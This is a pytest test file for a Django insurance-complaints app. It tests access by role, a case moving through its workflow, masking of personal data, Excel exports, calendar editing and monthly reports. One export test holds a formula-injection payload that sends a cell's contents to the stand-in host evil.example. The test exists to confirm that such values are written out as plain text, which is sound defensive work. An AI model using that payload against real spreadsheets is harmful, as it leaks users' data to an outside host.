"""Pages: who sees what, a clerk's whole case in the browser, highlighting, exports, the calendar, the publication."""

import io
import re

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from complaints import services
from complaints.models import CalendarDay, Complaint

from .conftest import D

PAGES = [
    "complaints:case-list",
    "complaints:case-create",
    "complaints:publication",
    "complaints:indicators",
    "complaints:calendar",
]


@pytest.mark.parametrize("name", PAGES)
def test_anonymous_users_go_to_the_login_page(client, db, name):
    response = client.get(reverse(name))
    assert response.status_code == 302 and response.url.startswith("/accounts/login/")


@pytest.mark.parametrize("user", ["nanjing_staff", "wuxi_staff", "county_staff", "officer", "admin"])
@pytest.mark.parametrize("name", PAGES)
def test_every_role_can_open_the_pages(users, client_for, user, name):
    assert client_for(users[user]).get(reverse(name)).status_code == 200


@pytest.mark.parametrize(
    ("user", "visible"),
    [
        ("nanjing_staff", {"nanjing", "jiangning"}),
        ("county_staff", {"jiangning"}),
        ("wuxi_staff", {"wuxi"}),
        ("officer", {"nanjing", "jiangning", "wuxi"}),
        ("admin", {"nanjing", "jiangning", "wuxi"}),
    ],
)
def test_case_pages_permission_matrix(users, client_for, intake, user, visible):
    cases = {code: intake(branch=code) for code in ("nanjing", "jiangning", "wuxi")}
    client = client_for(users[user])
    listing = client.get(reverse("complaints:case-list")).content.decode()
    for code, case in cases.items():
        mine = code in visible
        assert (case.number in listing) is mine
        assert client.get(reverse("complaints:case-detail", args=[case.pk])).status_code == (200 if mine else 404)
        assert client.get(reverse("complaints:case-edit", args=[case.pk])).status_code == (200 if mine else 404)
        step = client.post(reverse("complaints:case-step", args=[case.pk, "accept"]), {"accept-accepted_on": "2023-09-28"})
        assert step.status_code == (302 if mine else 404)
        assert Complaint.objects.get(pk=case.pk).status == ("accepted" if mine else "received")


@pytest.mark.parametrize(("user", "status", "created"), [("nanjing_staff", 400, False), ("officer", 302, True)])
def test_intake_for_another_branch_is_refused(users, client_for, user, status, created):
    form = {
        "branch": "wuxi",
        "source": "self",
        "channel": "hotline",
        "received_at": "2023-09-28T09:30",
        "customer_name": "王五",
        "category": "claims",
        "summary": "理赔慢",
    }
    response = client_for(users[user]).post(reverse("complaints:case-create"), form)
    # Staff are offered their own branches only: wuxi is not a valid choice for nanjing staff.
    assert response.status_code == status
    assert Complaint.objects.exists() is created


def test_a_clerk_takes_a_complaint_from_intake_to_closing_in_the_browser(users, client_for):
    client = client_for(users["nanjing_staff"])
    response = client.post(
        reverse("complaints:case-create"),
        {
            "branch": "nanjing",
            "source": "self",
            "channel": "counter",
            "received_at": "2023-09-28T09:30",
            "customer_name": "王五",
            "customer_phone": "13700001111",
            "category": "claims",
            "summary": "理赔慢",
            "material_complete": "on",
        },
    )
    case = Complaint.objects.get()
    assert response.status_code == 302 and response.url == reverse("complaints:case-detail", args=[case.pk])
    page = client.get(response.url).content.decode()
    assert "2023年10月13日" in page and "收到投诉 2023年9月28日（当日不计）" in page  # the limit and why
    assert "13700001111" in page  # the branch's own clerk sees the customer's phone

    def step(name, **data):
        r = client.post(reverse("complaints:case-step", args=[case.pk, name]), {f"{name}-{k}": v for k, v in data.items()})
        assert r.status_code == 302, r.content.decode()[:2000]

    step("accept", accepted_on="2023-09-28")
    step("joint-sheet-send", sent_on="2023-09-28")
    step("investigate", note="调取理赔档案")
    step("extend", granted_on="2023-10-10", approver="王经理", reason="需医院出具证明")
    step("joint-sheet-answer", answered_on="2023-10-09")
    step("decide", decided_on="2023-10-20", decision="补充赔付", reasons="属实")
    step("notify", notice_on="2023-10-21", notice_method="phone")
    step("callback", callback_on="2023-10-23", satisfaction="satisfied")
    step("close", closed_on="2023-10-24")
    case.refresh_from_db()
    assert case.status == "closed" and case.decision_due_on == D("2023-10-28") and not case.is_overdue
    page = client.get(reverse("complaints:case-detail", args=[case.pk])).content.decode()
    assert "延期至 30 日" in page and "会办单回复期限" in page and "2023年10月10日" in page  # 5 working days over National Day
    assert page.count('data-kind="') == 10


def test_a_refused_step_shows_the_reason_in_chinese_and_changes_nothing(users, client_for, intake, take):
    case = take(intake(received="2023-09-28"), "accepted")
    client = client_for(users["nanjing_staff"])
    response = client.post(
        reverse("complaints:case-step", args=[case.pk, "extend"]),
        {"extend-granted_on": "2023-10-05", "extend-approver": "王经理", "extend-reason": ""},
    )
    assert response.status_code == 400 and "延期必须填写原因。" in response.content.decode()
    response = client.post(
        reverse("complaints:case-step", args=[case.pk, "decide"]),
        {"decide-decided_on": "2023-09-27", "decide-decision": "维持", "decide-reasons": "符合"},
    )
    assert response.status_code == 400 and "不能早于收到投诉日期" in response.content.decode()
    case.refresh_from_db()
    assert case.status == "accepted" and case.decision_due_on == D("2023-10-13") and not case.extensions.exists()


@pytest.mark.parametrize(("user", "masked"), [("nanjing_staff", False), ("officer", True), ("admin", True)])
def test_personal_data_is_masked_on_pages_lists_and_exports_for_the_office(users, client_for, intake, user, masked):
    case = intake(branch="nanjing")
    client = client_for(users[user])
    for url in (reverse("complaints:case-list"), reverse("complaints:case-detail", args=[case.pk])):
        page = client.get(url).content.decode()
        assert ("13812345678" in page) is not masked and ("138****5678" in page) is masked
    sheet = load_workbook(io.BytesIO(client.get(reverse("complaints:case-list") + "?format=xlsx").content)).active
    row = [c.value for c in sheet[2]]
    assert row[0] == case.number
    assert (row[6], row[7]) == (("138****5678", "320***********1232") if masked else ("13812345678", "320102199001011232"))
    # Those who see masked data cannot overwrite it through the edit form.
    form = client.get(reverse("complaints:case-edit", args=[case.pk])).content.decode()
    assert ('name="customer_phone"' in form) is not masked


def test_the_export_writes_what_customers_typed_as_text_never_as_a_formula(users, client_for, intake):
    name = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
    intake(branch="nanjing", customer_name=name, policy_number="-2+3", summary="@SUM(1+1)\x07")
    content = client_for(users["nanjing_staff"]).get(reverse("complaints:case-list") + "?format=xlsx").content
    row = load_workbook(io.BytesIO(content)).active[2]
    assert (row[5].value, row[5].data_type) == (name, "s")
    assert (row[8].value, row[8].data_type) == ("-2+3", "s")
    assert (row[15].value, row[15].data_type) == ("@SUM(1+1)", "s")  # and the bell character a workbook cannot hold is gone
    assert row[5].quotePrefix and row[8].quotePrefix


def test_a_capped_export_says_so_above_the_header(users, client_for, intake, monkeypatch):
    from complaints import views

    cases = [intake(received=day) for day in ("2023-09-01", "2023-09-02", "2023-09-03")]
    monkeypatch.setattr(views, "EXPORT_LIMIT", 2)
    content = client_for(users["officer"]).get(reverse("complaints:case-list") + "?format=xlsx").content
    rows = list(load_workbook(io.BytesIO(content)).active.iter_rows(values_only=True))
    assert "筛选结果共 3 件" in rows[0][0] and "只含前 2 件" in rows[0][0]
    assert rows[1][0] == "投诉编号" and [r[0] for r in rows[2:]] == [cases[2].number, cases[1].number]


@pytest.mark.parametrize("typed", ["ts2023-nanjing-00001", " ＴＳ２０２３－nanjing－００００１ "])
def test_the_search_box_finds_a_case_number_however_it_was_typed(users, client_for, intake, typed):
    case = intake(received="2023-09-01")
    other = intake(received="2023-09-02")
    page = client_for(users["officer"]).get(reverse("complaints:case-list"), {"q": typed}).content.decode()
    assert case.number in page and other.number not in page


def test_the_list_highlights_overdue_and_due_soon_and_filters(users, client_for, intake, take):
    overdue = intake(received="2023-03-01")
    done = take(intake(received="2023-03-01"), "notified")
    client = client_for(users["officer"])
    page = client.get(reverse("complaints:case-list")).content.decode()
    assert re.search(rf'<tr class="table-danger" data-number="{overdue.number}"', page)
    assert re.search(rf'<tr class="" data-number="{done.number}"', page)
    only = client.get(reverse("complaints:case-list") + "?overdue=true").content.decode()
    assert overdue.number in only and done.number not in only


def test_due_soon_is_highlighted(users, client_for, intake, monkeypatch):
    from complaints import filtersets, views

    case = intake(received="2023-03-01")  # due 2023-03-16
    monkeypatch.setattr(views.timezone, "localdate", lambda: D("2023-03-14"))
    monkeypatch.setattr(filtersets.ComplaintFilter, "today", staticmethod(lambda: D("2023-03-14")))
    client = client_for(users["officer"])
    page = client.get(reverse("complaints:case-list")).content.decode()
    assert re.search(rf'<tr class="table-warning" data-number="{case.number}"', page)
    assert case.number in client.get(reverse("complaints:case-list") + "?due_within=3").content.decode()
    assert case.number not in client.get(reverse("complaints:case-list") + "?due_within=1").content.decode()


# ---------------------------------------------------------------- calendar


def test_only_the_office_edits_the_calendar(users, client_for):
    url = reverse("complaints:calendar-year", args=[2026])
    data = {"day-day": "2026-12-31", "day-kind": "holiday", "day-name": "演示"}
    assert client_for(users["nanjing_staff"]).post(url, data).status_code == 403
    assert client_for(users["nanjing_staff"]).get(reverse("complaints:calendar-import")).status_code == 403
    assert not CalendarDay.objects.filter(date="2026-12-31").exists()
    assert client_for(users["officer"]).post(url, data).status_code == 302
    assert CalendarDay.objects.get(date="2026-12-31").kind == "holiday"


def test_a_make_up_day_on_a_weekday_is_refused(users, client_for):
    url = reverse("complaints:calendar-year", args=[2026])
    response = client_for(users["officer"]).post(url, {"day-day": "2026-12-30", "day-kind": "workday"})
    assert response.status_code == 400 and "本来就是工作日" in response.content.decode()


def test_importing_a_year_validates_every_row_first(users, client_for):
    client = client_for(users["officer"])
    bad = "日期,类型,名称\n2027-10-01,休,国庆节\n2027-13-01,休,坏日期\n2027-10-04,班,周一不能调休\n2026-10-01,休,别的年份\n"
    response = client.post(reverse("complaints:calendar-import"), {"year": 2027, "text": bad})
    page = response.content.decode()
    assert response.status_code == 400
    assert "第3行，日期" in page and "第4行，类型" in page and "第5行，日期：2026-10-01 不在 2027 年" in page
    assert not CalendarDay.objects.filter(date__year=2027).exists()
    good = "2027-10-01,休,国庆节\n2027-10-02,休,国庆节\n2027-09-26,班,国庆节调休上班\n"
    response = client.post(reverse("complaints:calendar-import"), {"year": 2027, "text": good, "notice": "国办发明电〔2026〕1号"})
    assert response.status_code == 302
    assert CalendarDay.objects.filter(date__year=2027).count() == 3
    page = client.get(reverse("complaints:calendar-year", args=[2027])).content.decode()
    assert "国办发明电〔2026〕1号" in page and "2027年9月26日" in page


@pytest.mark.parametrize(
    ("content", "name"),
    [(b"this is not a workbook", "2027.xlsx"), (b"PK\x03\x04broken zip", "2027.xlsx")],
)
def test_a_damaged_workbook_is_refused_in_chinese_and_nothing_is_written(users, client_for, content, name):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from complaints.models import CalendarYear

    upload = SimpleUploadedFile(name, content, content_type="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
    response = client_for(users["officer"]).post(reverse("complaints:calendar-import"), {"year": 2027, "file": upload})
    assert response.status_code == 400
    assert "文件无法读取：不是有效的 .xlsx 文件" in response.content.decode()
    assert not CalendarYear.objects.filter(year=2027).exists() and not CalendarDay.objects.filter(date__year=2027).exists()


def test_deleting_a_day_that_is_not_a_date_is_refused_in_chinese(users, client_for):
    url = reverse("complaints:calendar-year", args=[2026])
    before = CalendarDay.objects.filter(date__year=2026).count()
    response = client_for(users["officer"]).post(url, {"delete": "2026-02-30"})
    page = response.content.decode()
    assert response.status_code == 400 and "日期无效" in page
    assert "这个字段是必填项" not in page  # the add-a-day form was not submitted
    assert CalendarDay.objects.filter(date__year=2026).count() == before


def test_the_calendar_is_read_only_in_the_admin_its_pages_are_the_editing_path(users, client_for):
    client = client_for(users["admin"])
    day = CalendarDay.objects.filter(date__year=2026).first()
    assert client.get("/admin/complaints/calendarday/add/").status_code == 403
    response = client.post(f"/admin/complaints/calendarday/{day.pk}/change/", {"date": "2026-12-30", "kind": "workday"})
    assert response.status_code == 403
    assert client.post(f"/admin/complaints/calendarday/{day.pk}/delete/", {"post": "yes"}).status_code == 403
    assert CalendarDay.objects.get(pk=day.pk).date == day.date
    assert client.get("/admin/complaints/calendarday/").status_code == 200


def test_the_calendar_page_computes_working_days_and_flags_unentered_years(users, client_for):
    page = client_for(users["wuxi_staff"]).get(reverse("complaints:calendar") + "?start=2026-12-28&days=5").content.decode()
    assert "2027年1月5日" in page and "放假安排未发布" in page
    page = client_for(users["wuxi_staff"]).get(reverse("complaints:calendar-year", args=[2027])).content.decode()
    assert "尚未录入" in page and "国庆节" in page


def test_the_highlighted_rows_are_exactly_what_the_overdue_and_due_soon_filters_list(users, client_for, intake):
    import datetime

    from django.utils import timezone

    today = timezone.localdate()
    for days_ago in (30, 16, 15, 14, 12, 11, 5):  # limits from 15 days before today to 10 days after
        intake(received=(today - datetime.timedelta(days=days_ago)).isoformat())
    client = client_for(users["officer"])

    def numbers(query, css=None):
        page = client.get(reverse("complaints:case-list") + query).content.decode()
        pattern = rf'<tr class="{css}" data-number="([^"]+)"' if css else r'<tr class="[^"]*" data-number="([^"]+)"'
        return set(re.findall(pattern, page))

    assert numbers("", "table-danger") == numbers("?overdue=true") and len(numbers("?overdue=true")) == 2
    assert numbers("", "table-warning") == numbers("?due_within=3") and len(numbers("?due_within=3")) == 3


# ---------------------------------------------------------------- publication and indicators


def test_the_office_downloads_the_monthly_publication(users, client_for, intake, take):
    late = take(intake(branch="wuxi", received="2023-03-01"), "notified", decided="2023-03-18", notified="2023-03-20")
    take(intake(branch="nanjing", received="2023-03-02"), "notified")
    client = client_for(users["officer"])
    page = client.get(reverse("complaints:publication") + "?month=2023-03").content.decode()
    assert late.number in page and "2023年3月" in page
    book = load_workbook(io.BytesIO(client.get(reverse("complaints:publication") + "?month=2023-03&format=xlsx").content))
    assert book.sheetnames == ["汇总", "超期案件", "重复来电", "会办单超时"]
    assert [c.value for c in book["超期案件"][2]][:2] == ["无锡中支", late.number]
    summary = {row[0]: row for row in book["汇总"].iter_rows(min_row=2, values_only=True)}
    assert summary["无锡中支"][1:3] == (1, 1) and summary["南京中支"][1:3] == (1, 0)
    # A branch's staff get their own branch only.
    staff = client_for(users["nanjing_staff"]).get(reverse("complaints:publication") + "?month=2023-03").content.decode()
    assert late.number not in staff


def test_the_indicator_page_links_each_figure_to_its_cases(users, client_for, intake, take):
    take(intake(branch="nanjing", received="2023-03-01", source="regulator"), "notified")
    take(intake(branch="nanjing", received="2023-03-05"), "notified", decided="2023-03-25", notified="2023-03-25")
    page = (
        client_for(users["nanjing_staff"])
        .get(reverse("complaints:indicators") + "?branch=nanjing&month_from=2023-01&month_to=2023-08")
        .content.decode()
    )
    assert 'href="/complaints/?figure=own_closed_15d&amp;branch=nanjing&amp;month_from=2023-01&amp;month_to=2023-08"' in page
    assert "100.00%" in page and "0.00%" in page  # regulator 1/1 in 15 days, self-received 0/1
    assert client_for(users["wuxi_staff"]).get(reverse("complaints:indicators") + "?branch=nanjing").status_code == 404


def test_the_indicator_page_rounds_rates_half_up_in_decimal_like_the_league_table(users, client_for, intake, take):
    take(intake(branch="nanjing", received="2023-03-01", source="regulator"), "notified")
    for _ in range(31):
        intake(branch="nanjing", received="2023-03-02", source="regulator")
    url = reverse("complaints:indicators") + "?branch=nanjing&month_from=2023-03&month_to=2023-03"
    page = client_for(users["officer"]).get(url).content.decode()
    assert "3.13%" in page and "3.12%" not in page  # 1 / 32 = 3.125 %: a float rounds it to 3.12


def test_the_indicator_page_asks_the_same_number_of_queries_however_many_prefectures(users, client_for, intake, tree):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    from branches.models import Branch

    intake(branch="jiangning", received="2023-03-01")
    client = client_for(users["officer"])
    url = reverse("complaints:indicators") + "?month_from=2023-01&month_to=2023-06"

    def queries():
        with CaptureQueriesContext(connection) as captured:
            assert client.get(url).status_code == 200
        return len(captured)

    two = queries()
    for n in range(5):
        Branch.objects.create(code=f"extra{n}", name=f"地市{n}", level="prefecture", parent=tree["jiangsu"], sort_order=10 + n)
    assert queries() == two


def test_a_step_on_a_merged_case_is_not_offered_but_the_link_to_the_earlier_case_is(users, client_for, intake, officer):
    first = intake(received="2023-09-28")
    repeat = services.complaint_merge(
        actor=officer, case=intake(received="2023-10-01"), into=first, merged_on=D("2023-10-01"), new_facts=False
    )
    page = client_for(users["officer"]).get(reverse("complaints:case-detail", args=[repeat.pk])).content.decode()
    assert reverse("complaints:case-detail", args=[first.pk]) in page
    assert reverse("complaints:case-step", args=[repeat.pk, "accept"]) not in page


def test_the_list_page_does_not_query_per_row(users, client_for, intake, django_assert_max_num_queries):
    for i in range(30):
        intake(branch=("nanjing", "jiangning", "wuxi")[i % 3], received="2023-03-01")
    client = client_for(users["nanjing_staff"])
    with django_assert_max_num_queries(20):
        page = client.get(reverse("complaints:case-list")).content.decode()
    assert page.count("data-number=") == 20


def test_every_form_field_for_a_column_is_no_longer_than_the_column():
    from complaints import forms
    from complaints.models import CalendarYear

    columns = {
        forms.IntakeForm: (
            Complaint,
            {
                n: n
                for n in [
                    "regulator_ref",
                    "customer_name",
                    "customer_phone",
                    "customer_id_number",
                    "policy_number",
                    "major_reason",
                ]
            },
        ),
        forms.EditForm: (
            Complaint,
            {n: n for n in ["regulator_ref", "customer_name", "customer_phone", "customer_id_number", "policy_number"]},
        ),
        forms.CalendarDayForm: (CalendarDay, {"name": "name"}),
        forms.CalendarImportForm: (CalendarYear, {"notice": "notice"}),
    }
    for form, (model, fields) in columns.items():
        for field, column in fields.items():
            assert form.base_fields[field].max_length == model._meta.get_field(column).max_length, (form, field)
